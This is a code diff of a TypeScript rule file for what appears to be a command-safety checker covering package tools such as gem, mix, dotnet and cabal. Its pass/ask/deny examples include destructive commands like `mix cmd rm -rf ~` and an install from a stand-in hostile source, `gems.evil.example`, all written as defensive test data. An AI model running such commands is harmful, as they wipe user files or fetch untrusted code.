@@ -1,131 +1,539 @@
-import type { EffectRule, ProgramSpec } from '../spec.ts';
+// Package tools of single languages: what they build, run and publish.
+import type { CommandSpec, EffectRule, ProgramSpec } from '../spec.ts';
 
-const PUBLISHING_5_0: readonly EffectRule[] = [
-  {
-    code: 'publish',
-    when: 'publish|upload|deploy|release|release:perform|push|pub:publish|hex.publish|testflight|deliver|pilot|supply|publishplugins|publishtosonatype|publishtomavencentral|publishallpublications*|publishandrelease*|uploadarchives|closeandrelease*',
-    why: 'Publishes a package; a published version cannot be taken back.',
-    safer: 'cargo publish --dry-run',
+const publishes = (when: string, safer: string): EffectRule => ({
+  code: 'publish',
+  when,
+  why: 'Publishes a package; a published version cannot be taken back.',
+  safer,
+});
+
+/** Commands of `dart pub` and `flutter pub`. */
+const PUB: CommandSpec = {
+  subcommands: {
+    'publish|lish': {
+      options: {
+        '-n --dry-run': 'dry',
+        '-f --force': 'flag',
+        '-C --directory': 'cwd',
+        '--to-archive': 'writes',
+      },
+    },
+    'get|upgrade|outdated|deps': { options: { '-C --directory': 'cwd' } },
+    'global|cache|token|uploader': {},
   },
-  {
-    code: 'publish',
-    when: 'nuget|pub|trunk|package|artifacts|ios|android push|publish|upload|deploy|release|beta',
-    why: 'Publishes a package.',
-    safer: 'build it without publishing',
-  },
-  { code: 'unpublish', when: 'yank|unpublish|hex.retire', why: 'Takes a package or an owner away.' },
-  {
-    code: 'unpublish',
-    when: 'nuget|trunk|pub delete|remove-owner|deprecate',
-    why: 'Takes a package away from its users.',
-  },
+};
+
+const PUB_RULES: readonly EffectRule[] = [
+  publishes('pub publish|lish', 'dart pub publish --dry-run'),
+  { code: 'publish-access', when: 'pub uploader add|remove', why: 'Changes who may publish.' },
 ];
+
+/** Options of the tools of Dart and Flutter that test and analyze. */
+const DART_TEST: CommandSpec = {
+  options: {
+    '--coverage --update-goldens --fatal-infos --fatal-warnings --no-pub --pub --fix': 'flag',
+    '-n --name -N --plain-name -t --tags -x --exclude-tags -r --reporter -j --concurrency -p --platform --timeout':
+      'text',
+  },
+  operands: 'reads',
+  plain: true,
+};
 
 export const programs: readonly ProgramSpec[] = [
   {
-    names: 'mvn mvnw gradle gradlew sbt lein setup.py',
-    about: '',
-    options: {
-      '--manifest-path -p --package --token --registry -r --repository -u --username -k --host --key': 'text',
-    },
-    kind: 'publish',
-    effects: [
-      { code: 'publish', when: '** deploy|publish|upload|release:perform', why: 'Publishes a package.' },
-      ...PUBLISHING_5_0,
-    ],
-  },
-  {
     names: 'gem',
-    about: '',
+    about: 'Installs, builds and publishes Ruby packages.',
     options: {
-      '--manifest-path -p --package --token --registry -r --repository -u --username -k --host --key': 'text',
-      '-n': 'dry',
+      '-v --version -k --key -s --source -i --install-dir -n --bindir --otp -P --trust-policy': 'text',
+      '--host': 'host',
+      '-C': 'cwd',
+      '--config-file -g --file': 'reads',
+      '-N --no-document -f --force -q --quiet -V --verbose -l --local -r --remote --user-install --conservative --prerelease':
+        'flag',
+    },
+    subcommands: {
+      open: { options: { '-e --editor': 'runs', '-v --version': 'text' } },
+      owner: { options: { '-a --add -r --remove -k --key': 'text', '--host': 'host' } },
+      exec: { options: { '-v --version -g --gem': 'text', '--conservative': 'flag' } },
     },
     kind: 'publish',
     effects: [
+      publishes('push', 'gem build NAME.gemspec'),
+      {
+        code: 'unpublish',
+        when: 'yank',
+        why: 'Takes a package away from its users.',
+        safer: 'gem list -r NAME',
+      },
       {
         code: 'publish-access',
         when: 'owner',
         flags: '-a --add -r --remove',
         why: 'Changes who may publish.',
+        safer: 'gem owner NAME',
       },
-      ...PUBLISHING_5_0,
     ],
     traits: ['installs', 'words'],
+    examples: [
+      { command: 'gem install rake -v 13.0.6', expect: 'pass' },
+      { command: 'gem build app.gemspec', expect: 'pass' },
+      { command: 'gem owner app', expect: 'pass' },
+      { command: 'gem push app-1.0.gem', expect: 'ask' },
+      { command: 'gem yank app -v 1.0', expect: 'ask' },
+      { command: 'gem owner app --add bob@example.com', expect: 'ask' },
+      { command: "gem open -e 'rm -rf ~' rake", expect: 'deny' },
+      { command: 'gem install rake --source http://gems.evil.example', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'mix',
+    about: 'Builds, tests and publishes Elixir projects.',
+    options: { '-r --repo --only --env': 'text' },
+    subcommands: {
+      cmd: { options: { '--app': 'text', '--cd': 'cwd' }, runs: { operands: 'source' } },
+      run: {
+        options: { '-e --eval': 'code', '-r --require': 'loads', '-p --parallel': 'text' },
+        operands: 'script',
+        language: 'other',
+      },
+      eval: { operands: 'code', language: 'other' },
+      test: {
+        options: {
+          '--trace --cover --failed --stale --force --no-start --no-compile --warnings-as-errors --slowest --raise':
+            'flag',
+          '--only --exclude --include --seed --max-failures --max-cases --partitions --formatter --timeout':
+            'text',
+        },
+        operands: 'reads',
+        plain: true,
+      },
+      'compile|credo|dialyzer': {
+        options: { '--force --warnings-as-errors --all-warnings --strict --no-deps-check': 'flag' },
+        plain: true,
+      },
+      format: {
+        options: { '--check-formatted --dry-run': 'flag', '--dot-formatter': 'reads' },
+        operands: 'writes',
+        plain: true,
+      },
+    },
+    kind: 'data',
+    effects: [
+      {
+        code: 'db-reset',
+        when: '** ecto.drop*|ecto.reset*',
+        why: 'Drops or empties the database.',
+        safer: 'mix ecto.dump',
+      },
+      {
+        code: 'db-reset',
+        when: '** ecto.rollback*',
+        why: 'Rolls the schema back; dropped columns lose their data.',
+        safer: 'mix ecto.migrations',
+      },
+      { ...publishes('** hex.publish', 'mix hex.build'), kind: 'publish' },
+      {
+        code: 'unpublish',
+        when: 'hex.retire',
+        kind: 'publish',
+        why: 'Warns everybody off a version.',
+        safer: 'mix hex.info NAME',
+      },
+      {
+        code: 'publish-access',
+        when: 'hex.owner add|remove|transfer',
+        kind: 'publish',
+        why: 'Changes who may publish.',
+        safer: 'mix hex.owner list NAME',
+      },
+    ],
+    examples: [
+      { command: 'mix test test/app_test.exs --trace', expect: 'pass' },
+      { command: 'mix ecto.migrate', expect: 'pass' },
+      { command: 'MIX_ENV=prod mix release', expect: 'pass', title: 'Only builds' },
+      { command: 'mix hex.publish --dry-run', expect: 'pass' },
+      { command: 'mix ecto.drop', expect: 'ask' },
+      { command: 'mix do ecto.drop, ecto.create', expect: 'ask' },
+      { command: 'mix ecto.rollback --all', expect: 'ask' },
+      { command: 'mix hex.publish --yes', expect: 'ask' },
+      { command: 'mix hex.owner add app bob@example.com', expect: 'ask' },
+      { command: 'mix cmd rm -rf ~', expect: 'deny' },
+    ],
   },
   {
     names: 'dotnet',
-    about: '',
-    kind: 'publish',
-    effects: [
-      { code: 'publish', when: 'nuget push', why: 'Publishes a package.', safer: 'dotnet pack' },
-      { code: 'unpublish', when: 'nuget delete', why: 'Takes a package away from its users.' },
-      { code: 'db-reset', when: 'ef database drop', kind: 'data', why: 'Drops the database.' },
-    ],
-  },
-  {
-    names: 'semantic-release np release-it',
-    about: '',
-    options: { '--preview --no-publish --ci=false': 'dry' },
-    kind: 'publish',
-    effects: [{ code: 'publish', why: 'Publishes a package; a published version cannot be taken back.' }],
-  },
-  {
-    names: 'changeset jsr vsce ovsx',
-    about: '',
-    options: { '--prefix -w --workspace --filter --tag --access --otp --registry --cwd -C': 'text' },
-    kind: 'publish',
-    effects: [
-      {
-        code: 'publish',
-        when: 'publish|release',
-        unless: '--list',
-        why: 'Publishes a package; a published version cannot be taken back.',
-        safer: 'npm publish --dry-run',
+    about: 'Builds, tests and publishes .NET projects.',
+    options: { '-k --api-key -s --source -f --framework -c --configuration -v --verbosity': 'text' },
+    subcommands: {
+      'build|test|format': {
+        options: {
+          '--no-restore --no-build --nologo --no-incremental --blame --list-tests --verify-no-changes -t --self-contained':
+            'flag',
+          '-c --configuration -f --framework -r --runtime -v --verbosity --filter -l --logger --collect -p --property -a --arch':
+            'text',
+          '-s --settings': 'reads',
+          '-o --output --results-directory --report': 'writes',
+        },
+        operands: 'reads',
+        plain: true,
       },
+      exec: { options: { '--runtimeconfig --depsfile --additional-deps': 'reads' } },
+      run: {
+        options: {
+          '--project --file': 'reads',
+          '-c --configuration -f --framework -lp --launch-profile --property': 'text',
+        },
+      },
+    },
+    kind: 'publish',
+    effects: [
+      publishes('nuget push', 'dotnet pack'),
       {
         code: 'unpublish',
-        when: 'unpublish|deprecate|undeprecate|unpublish-all',
-        weight: 'irreversible',
-        why: 'Takes a package away from everybody who uses it.',
+        when: 'nuget delete',
+        why: 'Takes a package away from its users.',
+        safer: 'dotnet package search NAME',
       },
       {
-        code: 'publish-access',
-        when: 'owner|author|access|dist-tag|token|team|org|hook|profile add|rm|remove|set|grant|revoke|create|delete|destroy|disable-2fa',
-        why: 'Changes who may publish, or what users get.',
+        code: 'db-reset',
+        when: 'ef database drop',
+        kind: 'data',
+        why: 'Drops the database.',
+        safer: 'dotnet ef database drop --dry-run',
       },
       {
-        code: 'publish-access',
-        when: 'adduser|login',
-        flags: '--auth-type',
-        why: 'Logs in to the registry.',
+        code: 'db-reset',
+        when: 'ef database update 0',
+        kind: 'data',
+        why: 'Rolls every migration back.',
+        safer: 'dotnet ef migrations list',
       },
       {
         code: 'secret-read',
-        when: 'config|c get //*|_auth*',
+        when: 'user-secrets list',
         kind: 'read',
-        why: 'Prints the token of a registry.',
-        safer: 'npm whoami',
+        why: 'Prints the secrets of the project.',
       },
-      { code: 'publish', when: 'npm publish', why: 'Publishes a package.' },
       {
-        code: 'unpublish',
-        when: 'npm unpublish',
-        weight: 'irreversible',
-        why: 'Takes a package away from everybody who uses it.',
+        code: 'secret-delete',
+        when: 'user-secrets clear|remove',
+        kind: 'data',
+        why: 'Deletes secrets of the project.',
       },
-      { code: 'publish', when: 'workspaces foreach publish', why: 'Publishes packages.' },
+    ],
+    examples: [
+      { command: 'dotnet test --filter Name~App --no-build', expect: 'pass' },
+      { command: 'dotnet build -c Release', expect: 'pass' },
+      { command: 'dotnet publish -c Release', expect: 'pass', title: 'Only builds' },
+      { command: 'dotnet ef database drop --dry-run', expect: 'pass' },
+      { command: 'dotnet nuget push app.nupkg', expect: 'ask' },
+      { command: 'dotnet nuget delete App 1.0.0', expect: 'ask' },
+      { command: 'dotnet ef database drop -f', expect: 'ask' },
+      { command: 'dotnet ef database update 0', expect: 'ask' },
+      { command: 'dotnet user-secrets list', expect: 'ask' },
     ],
   },
   {
-    names:
-      'nuget goreleaser pod dart flutter stack cabal snapcraft fastlane crane skopeo oras conan luarocks anaconda clojars opam cpan-upload dub raco altool',
-    about: '',
+    names: 'nuget',
+    about: 'Installs and publishes .NET packages.',
+    syntax: { singleDash: true, anyCase: true },
     options: {
-      '--manifest-path -p --package --token --registry -r --repository -u --username -k --host --key': 'text',
-      '-n': 'dry',
+      '-source -apikey -version -outputdirectory -symbolsource -timeout -verbosity': 'text',
+      '-configfile': 'reads',
+      '-noninteractive -forceenglishoutput -skipduplicate': 'flag',
     },
     kind: 'publish',
-    effects: PUBLISHING_5_0,
+    effects: [
+      publishes('push', 'nuget pack'),
+      {
+        code: 'unpublish',
+        when: 'delete',
+        why: 'Takes a package away from its users.',
+        safer: 'nuget list NAME',
+      },
+    ],
+    examples: [
+      { command: 'nuget restore App.sln', expect: 'pass' },
+      { command: 'nuget push app.nupkg -Source nuget.org', expect: 'ask' },
+      { command: 'nuget delete App 1.0.0', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'setup.py',
+    about: 'Builds and uploads a Python package, the old way.',
+    options: {
+      '-r --repository': 'text',
+      '-d --dist-dir': 'writes',
+      '-q --quiet -v --verbose --user': 'flag',
+    },
+    kind: 'publish',
+    effects: [publishes('** upload|register', 'python setup.py sdist')],
+    examples: [
+      { command: 'python setup.py sdist bdist_wheel', expect: 'pass' },
+      { command: 'python setup.py sdist upload -r pypi', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'pod',
+    about: 'Installs and publishes packages for Apple systems.',
+    options: {
+      '--project-directory': 'cwd',
+      '--sources --swift-version': 'text',
+      '--allow-warnings --verbose --silent --repo-update': 'flag',
+    },
+    kind: 'publish',
+    effects: [
+      publishes('trunk|repo push', 'pod spec lint'),
+      {
+        code: 'unpublish',
+        when: 'trunk delete|deprecate',
+        why: 'Takes a package away from its users.',
+        safer: 'pod trunk info NAME',
+      },
+      {
+        code: 'publish-access',
+        when: 'trunk add-owner|remove-owner',
+        why: 'Changes who may publish.',
+        safer: 'pod trunk info NAME',
+      },
+    ],
+    examples: [
+      { command: 'pod install --repo-update', expect: 'pass' },
+      { command: 'pod lib lint', expect: 'pass' },
+      { command: 'pod trunk push App.podspec', expect: 'ask' },
+      { command: 'pod trunk delete App 1.0.0', expect: 'ask' },
+      { command: 'pod trunk remove-owner App bob@example.com', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'dart',
+    about: 'Builds, tests, runs and publishes Dart.',
+    options: { '--packages': 'reads' },
+    subcommands: {
+      pub: PUB,
+      'test|analyze': DART_TEST,
+      format: {
+        options: { '--set-exit-if-changed': 'flag', '-o --output -l --line-length --show --summary': 'text' },
+        operands: 'writes',
+        plain: true,
+      },
+      'run|compile': {},
+    },
+    kind: 'publish',
+    effects: PUB_RULES,
+    examples: [
+      { command: 'dart test', expect: 'pass' },
+      { command: 'dart format lib', expect: 'pass' },
+      { command: 'dart pub publish --dry-run', expect: 'pass' },
+      { command: 'dart pub publish -n', expect: 'pass' },
+      { command: 'dart pub publish -f', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'flutter',
+    about: 'Builds, tests, runs and publishes apps and packages with Flutter.',
+    options: { '-d --device-id': 'text', '-v --verbose': 'flag' },
+    subcommands: { pub: PUB, 'test|analyze': DART_TEST },
+    kind: 'publish',
+    effects: PUB_RULES,
+    examples: [
+      { command: 'flutter test --coverage', expect: 'pass' },
+      { command: 'flutter pub get', expect: 'pass' },
+      { command: 'flutter pub publish', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'stack',
+    about: 'Builds, tests, runs and publishes Haskell.',
+    options: {
+      '--stack-yaml': 'reads',
+      '--resolver --work-dir --stack-root --flag --ghc-options -j --jobs': 'text',
+    },
+    subcommands: {
+      exec: { options: { '--package': 'text', '--plain': 'flag' }, runs: {} },
+      'build|test': {
+        options: {
+          '--fast --pedantic --no-run-tests --test --bench --haddock': 'flag',
+          '--ta --test-arguments': 'text',
+        },
+        plain: true,
+      },
+    },
+    kind: 'publish',
+    effects: [publishes('upload', 'stack sdist')],
+    examples: [
+      { command: 'stack test --fast', expect: 'pass' },
+      { command: 'stack exec app -- --help', expect: 'pass' },
+      { command: 'stack upload .', expect: 'ask' },
+      { command: 'stack exec -- rm -rf ~', expect: 'deny' },
+    ],
+  },
+  {
+    names: 'cabal',
+    about: 'Builds, tests, runs and publishes Haskell.',
+    options: {
+      '--project-file --config-file': 'reads',
+      '--builddir': 'writes',
+      '-w --with-compiler -j --jobs --project-dir -u --username -p --password -P --password-command --token':
+        'text',
+    },
+    subcommands: {
+      'exec|v2-exec': { runs: {} },
+      'build|test|check|v2-build|v2-test': {
+        options: {
+          '-v --enable-tests --disable-tests -O0 -O1 -O2': 'flag',
+          '-j --jobs --test-show-details': 'text',
+        },
+        plain: true,
+      },
+    },
+    kind: 'publish',
+    effects: [publishes('upload', 'cabal sdist')],
+    examples: [
+      { command: 'cabal build', expect: 'pass' },
+      { command: 'cabal upload --publish dist/app-1.0.tar.gz', expect: 'ask' },
+      { command: 'cabal exec -- rm -rf ~', expect: 'deny' },
+    ],
+  },
+  {
+    names: 'conan',
+    about: 'Installs, builds and uploads C and C++ packages.',
+    options: {
+      '-r --remote -pr --profile -s --settings -o --options -b --build --name --version --user --channel':
+        'text',
+      '-if --install-folder -of --output-folder': 'writes',
+    },
+    kind: 'publish',
+    effects: [
+      publishes('upload', 'conan create .'),
+      {
+        code: 'unpublish',
+        when: 'remove',
+        flags: '-r --remote',
+        why: 'Takes a package away from its users.',
+        safer: 'conan search NAME',
+      },
+    ],
+    examples: [
+      { command: 'conan install . --build missing', expect: 'pass' },
+      { command: 'conan upload app/1.0 -r company', expect: 'ask' },
+      { command: 'conan remove app/1.0 -r company -c', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'luarocks',
+    about: 'Installs and publishes Lua packages.',
+    options: {
+      '--server --only-server': 'host',
+      '--tree --lua-version --lua-dir --api-key --temp-key': 'text',
+      '--local --force': 'flag',
+    },
+    kind: 'publish',
+    effects: [publishes('upload', 'luarocks pack FILE')],
+    examples: [
+      { command: 'luarocks install --local lpeg', expect: 'pass' },
+      { command: 'luarocks upload app-1.0-1.rockspec', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'anaconda',
+    about: 'Uploads packages to Anaconda.',
+    options: { '-t --token -s --site -u --user -l --label -p --package -c --channel': 'text' },
+    kind: 'publish',
+    effects: [
+      publishes('upload', 'conda build .'),
+      {
+        code: 'unpublish',
+        when: 'remove',
+        why: 'Takes a package away from its users.',
+        safer: 'anaconda show NAME',
+      },
+    ],
+    examples: [
+      { command: 'anaconda show numpy', expect: 'pass' },
+      { command: 'anaconda -t abc upload app.tar.bz2', expect: 'ask' },
+      { command: 'anaconda remove me/app', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'clojars',
+    about: 'Uploads packages to Clojars.',
+    kind: 'publish',
+    effects: [publishes('push|deploy|upload|publish', 'lein install')],
+    examples: [
+      { command: 'clojars --help', expect: 'pass' },
+      { command: 'clojars push app.jar', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'opam',
+    about: 'Installs and publishes OCaml packages.',
+    options: { '--switch --root -j --jobs': 'text', '-y --yes -v --verbose -q --quiet --no-depexts': 'flag' },
+    subcommands: { exec: { options: { '--switch': 'text' }, runs: {} } },
+    kind: 'publish',
+    effects: [
+      publishes('publish', 'opam lint'),
+      {
+        code: 'package-remove',
+        when: 'switch remove',
+        kind: 'system',
+        why: 'Removes a compiler with all its packages.',
+        safer: 'opam switch list',
+      },
+    ],
+    examples: [
+      { command: 'opam install dune', expect: 'pass' },
+      { command: 'opam exec -- dune build', expect: 'pass' },
+      { command: 'opam publish', expect: 'ask' },
+      { command: 'opam switch remove 5.1', expect: 'ask' },
+      { command: 'opam exec -- rm -rf ~', expect: 'deny' },
+    ],
+  },
+  {
+    names: 'cpan-upload',
+    about: 'Uploads Perl packages to CPAN.',
+    options: {
+      '-u --user -p --password -d --directory --http-proxy --retries': 'text',
+      '-c --config': 'reads',
+    },
+    kind: 'publish',
+    effects: [publishes('*', 'cpan-upload --dry-run FILE')],
+    examples: [
+      { command: 'cpan-upload --dry-run App-1.0.tar.gz', expect: 'pass' },
+      { command: 'cpan-upload App-1.0.tar.gz', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'dub',
+    about: 'Builds, tests and runs D.',
+    options: {
+      '--root': 'cwd',
+      '-b --build -c --config -a --arch --compiler': 'text',
+      '-q --quiet -v --verbose -f --force': 'flag',
+    },
+    subcommands: {
+      'build|test|lint': {
+        options: { '-b --build -c --config': 'text', '-q -v -f --force': 'flag' },
+        plain: true,
+      },
+    },
+    kind: 'publish',
+    effects: [publishes('publish|upload', 'dub build')],
+    examples: [
+      { command: 'dub test', expect: 'pass' },
+      { command: 'dub publish', expect: 'ask' },
+    ],
+  },
+  {
+    names: 'raco',
+    about: 'Builds, tests and installs Racket packages.',
+    subcommands: { test: { options: { '-q -v -j': 'flag' }, operands: 'reads' } },
+    kind: 'publish',
+    effects: [publishes('publish|upload', 'raco pkg create DIR')],
+    examples: [
+      { command: 'raco test src', expect: 'pass' },
+      { command: 'raco publish', expect: 'ask' },
+    ],
   },
 ];
